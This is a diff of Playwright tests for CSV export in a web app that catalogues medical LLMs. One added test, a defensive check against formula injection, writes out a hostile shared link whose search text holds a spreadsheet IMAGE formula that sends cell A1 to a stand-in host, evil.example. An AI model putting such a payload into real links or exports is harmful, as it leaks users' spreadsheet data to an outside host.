@@ -564,8 +564,8 @@ describe('exporting a view', () => {
     const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
     expect(download.suggestedFilename()).toBe('llms.csv');
     const csv = await readFile((await download.path())!, 'utf8');
-    expect(csv.split('\n')[0]).toBe(`# 4 of 33 entries from ${started.site.origin}/llms/?institute=Google&year=2024&sort=citations (2024, institute Google), most cited first.`);
-    const rows = parseCsv(csv, { comment: '#', columns: true }) as Record<string, string>[];
+    expect(csv.split('\n')[0]).toBe(`"# 4 of 33 entries from ${started.site.origin}/llms/?institute=Google&year=2024&sort=citations (2024, institute Google), most cited first."`);
+    const rows = parseCsv(csv, { from_line: 2, columns: true }) as Record<string, string>[];
     expect(rows.map((r) => r.Title)).toEqual(['PH-LLM', 'Med-Gemini 2D / 3D / Polygenic', 'Med-Gemini', 'AMIE']);
     expect(rows[0]).toMatchObject({ Page: `${started.site.origin}/entries/ph-llm/`, Published: '2024-06', Citations: '52', Stars: '' });
     await page.getByRole('button', { name: 'Copy as Markdown' }).click();
@@ -577,14 +577,29 @@ describe('exporting a view', () => {
   });
 });
 
+describe('exporting a view from a hostile shared link', () => {
+  it('keeps the search text inside the first line’s one text cell: no cell of the file starts a formula', async () => {
+    // The link as the review sent it, unencoded: the page reads q as x,=IMAGE("https://evil.example/pixel?from="
+    const { page, context } = await open('/llms/?q=x,=IMAGE("https://evil.example/pixel?from="&A1&"', { acceptDownloads: true });
+    await shown(page);
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
+    // relax_quotes reads the line as a spreadsheet would, quotes inside an unquoted cell included.
+    const records = parseCsv(await readFile((await download.path())!, 'utf8'), { relax_column_count: true, relax_quotes: true }) as string[][];
+    expect(records[0]).toHaveLength(1);
+    expect(records[0]![0]).toMatch(/^# 0 of 33 entries from .+ \(search "x,=IMAGE\("https:\/\/evil\.example\/pixel\?from=""\), newest first\.$/);
+    expect(records.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    await context.close();
+  });
+});
+
 describe('exporting a view with a benchmark column', () => {
   it('carries the column, its checkpoint and setting, in the view’s order', async () => {
     const { page, context } = await open('/llms/?sort=result&view=table&result=medqa.us-4-option-test.accuracy', { acceptDownloads: true });
     await expect.poll(() => page.locator('[data-table] .result-cell').count()).toBe(4);
     const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
     const csv = await readFile((await download.path())!, 'utf8');
-    expect(csv.split('\n')[0]).toMatch(/, best MedQA \(USMLE\) · USMLE, English, 4 options, test · Accuracy first\.$/);
-    const rows = parseCsv(csv, { comment: '#', columns: true }) as Record<string, string>[];
+    expect(csv.split('\n')[0]).toMatch(/, best MedQA \(USMLE\) · USMLE, English, 4 options, test · Accuracy first\."$/);
+    const rows = parseCsv(csv, { from_line: 2, columns: true }) as Record<string, string>[];
     const column = 'MedQA (USMLE) · USMLE, English, 4 options, test · Accuracy';
     expect(rows.slice(0, 4).map((row) => [row.Title, row[column], row[`${column}: checkpoint`], row[`${column}: other setting`]])).toEqual([
       ['Med-PaLM 2', '86.5', 'Med-PaLM 2', ''],
